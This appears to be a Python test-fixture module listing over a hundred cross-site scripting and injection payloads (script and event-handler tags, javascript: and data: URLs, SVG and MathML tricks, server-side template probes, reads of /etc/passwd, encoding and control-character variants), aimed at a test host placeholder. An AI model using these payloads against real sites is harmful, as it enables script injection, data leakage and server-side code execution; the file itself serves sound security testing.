"""Words that try to be more than words: what a stranger may write into any text that reaches a page.

Every payload that works shows itself: it opens a dialog (``alert``), or asks ``{host}`` for something, an address that the test
listens at. Used for the page, for the desk, and for whatever else prints a stranger's words.
"""

_TAGS = r"""
<script>alert(1)</script>
<script src=//{host}/s></script>
<ScRiPt>alert(1)</sCrIpT>
<script >alert(1)</script >
<script/x>alert(1)</script>
<script type=module>alert(1)</script>
<script type="text/javascript">fetch('//{host}/f')</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<<script>alert(1);//<</script>
<script>alert(1)
<script>alert`1`</script>
<script>import('//{host}/m')</script>
</script><script>alert(1)</script>
</ScRiPt ><script>alert(1)</script>
</title><script>alert(1)</script>
</style><script>alert(1)</script>
</textarea><script>alert(1)</script>
</noscript><script>alert(1)</script>
</template><script>alert(1)</script>
</svg><script>alert(1)</script>
</desc><script>alert(1)</script>
</select><script>alert(1)</script>
</table><script>alert(1)</script>
</details></summary><script>alert(1)</script>
</dialog><script>alert(1)</script>
</bdi></mark><script>alert(1)</script>
--><script>alert(1)</script><!--
--!><script>alert(1)</script>
]]><script>alert(1)</script>
<![CDATA[<script>alert(1)</script>]]>
<!--<img src="--><img src=x onerror=alert(1)//">
<img src=x onerror=alert(1)>
<img src=x onerror="alert(1)"
<img/src=x/onerror=alert(1)>
<img src=//{host}/i>
<img srcset="//{host}/i2 1x">
<IMG SRC=x ONERROR=alert(1)>
<img src="x` `<script>alert(1)</script>"` `>
<image href=x onerror=alert(1)>
<svg/onload=alert(1)>
<svg onload=alert(1)//
<svg><script>alert(1)</script></svg>
<svg><script href=//{host}/sv /></svg>
<svg><image href=//{host}/im /></svg>
<svg><use href="//{host}/u#x"/></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><set onbegin=alert(1) attributeName=x>
<svg><a href="javascript:alert(1)"><text>x</text></a></svg>
<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>
<svg><style>@import '//{host}/c'</style></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style>
<math href="javascript:alert(1)">x</math>
<iframe src="javascript:alert(1)"></iframe>
<iframe src=//{host}/fr></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data=//{host}/o></object>
<object data="javascript:alert(1)"></object>
<embed src=//{host}/e>
<embed src="javascript:alert(1)">
<video src=//{host}/v autoplay></video>
<video><source onerror=alert(1)></video>
<audio src=x onerror=alert(1)>
<input autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)>
<textarea autofocus onfocus=alert(1)>
<button autofocus onfocus=alert(1)>x</button>
<keygen autofocus onfocus=alert(1)>
<details open ontoggle=alert(1)>x</details>
<dialog open onclose=alert(1)>x</dialog>
<marquee onstart=alert(1)>x</marquee>
<body onload=alert(1)>
<body background=//{host}/b>
<frameset onload=alert(1)>
<table background=//{host}/t><td>x</table>
<link rel=stylesheet href=//{host}/l>
<link rel=prefetch href=//{host}/p>
<link rel=icon href=//{host}/ic>
<style>@import '//{host}/st'</style>
<style>*{background:url(//{host}/bg)}</style>
<p style="background:url(//{host}/ps)">x</p>
<p style="animation-name:x" onanimationstart=alert(1)>x</p>
<meta http-equiv=refresh content="0;url=//{host}/r">
<meta http-equiv="Content-Security-Policy" content="default-src *">
<base href=//{host}/>
<base target=_top>
<form action=//{host}/fo><button autofocus>x</button></form>
<form id=x></form><button form=x formaction="javascript:alert(1)">x</button>
<a href="javascript:alert(1)">x</a>
<a href="//{host}/a" ping="//{host}/pi">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a style="position:fixed;inset:0" href="javascript:alert(1)">x</a>
<template shadowrootmode=open><script>alert(1)</script></template>
<div contenteditable autofocus onfocus=alert(1)>x</div>
<x onclick=alert(1) tabindex=1 autofocus onfocus=alert(1)>x</x>
<custom-x onpointerrawupdate=alert(1)>x</custom-x>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<xmp><script>alert(1)</script></xmp>
<plaintext>
<%00script>alert(1)</script>
<script x=">">alert(1)</script>
"""

_ATTRIBUTES = r"""
" onmouseover="alert(1)
" autofocus onfocus="alert(1)
' onfocus='alert(1)' autofocus='
` onmouseover=alert(1) `
x onerror=alert(1)
"><script>alert(1)</script>
'><script>alert(1)</script>
"/><img src=x onerror=alert(1)>
" style="background:url(//{host}/at)
" href="javascript:alert(1)
#" onclick="alert(1)
\" onmouseover=alert(1) \"
&quot; onmouseover=&quot;alert(1)
&#34;&#62;&#60;script&#62;alert(1)&#60;/script&#62;
"""

_SCHEMES = r"""
javascript:alert(1)
JaVaScRiPt:alert(1)
javascript&colon;alert(1)
java	script:alert(1)
 javascript:alert(1)
javascript://packet.example/%0aalert(1)
vbscript:alert(1)
data:text/html,<script>alert(1)</script>
data:image/svg+xml,<svg onload=alert(1)>
blob:http://{host}/x
//{host}/bare
http://{host}/" onclick="alert(1)
https://user:pass@{host}/
file:///etc/passwd
"""

_TEMPLATES = r"""
{{ 7*7 }} {% raw %} ${7*7} #{7*7} <%= 7*7 %>
{{ ''.__class__.__mro__ }}
{% include '/etc/passwd' %}
{{ cycler.__init__.__globals__ }}
${alert(1)}
[x](javascript:alert(1))
![x](//{host}/md)
<http://{host}/auto>
&lt;script&gt;alert(1)&lt;/script&gt;
&amp;lt;script&amp;gt;alert(1)
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
\u003cscript\u003ealert(1)\u003c/script\u003e
\x3cscript\x3ealert(1)\x3c/script\x3e
%3Cscript%3Ealert(1)%3C/script%3E
＜script＞alert(1)＜/script＞
"""

_CHARACTERS = (
    "<script\x00>alert(1)</script>",
    "<img\x0csrc=x\x0conerror=alert(1)>",
    "java\nscript:alert(1)",
    "\x01javascript:alert(1)",
    "<a href=\"java\x0ascript:alert(1)\">x</a>",
    "\u202e<tpircs>)1(trela<tpircs/>\u202c",
    "\u2028alert(1)\u2029",
    "\ufeff<script>alert(1)</script>",
    "\ud800<script>alert(1)</script>",
    "\x1b]8;;http://{host}/osc\x07x\x1b]8;;\x07",
    "<script>" * 40 + "alert(1)",
    "w" * 3000 + "<script>alert(1)</script>",
)  # fmt: skip

PAYLOADS = tuple(line for table in (_TAGS, _ATTRIBUTES, _SCHEMES, _TEMPLATES) for line in table.split("\n") if line) + _CHARACTERS
"""All of them, ``{host}`` still open."""


def aimed_at(host):
    """The payloads, asking ``host`` (``127.0.0.1:8000``) where they ask for something."""
    return tuple(payload.replace("{host}", host) for payload in PAYLOADS)
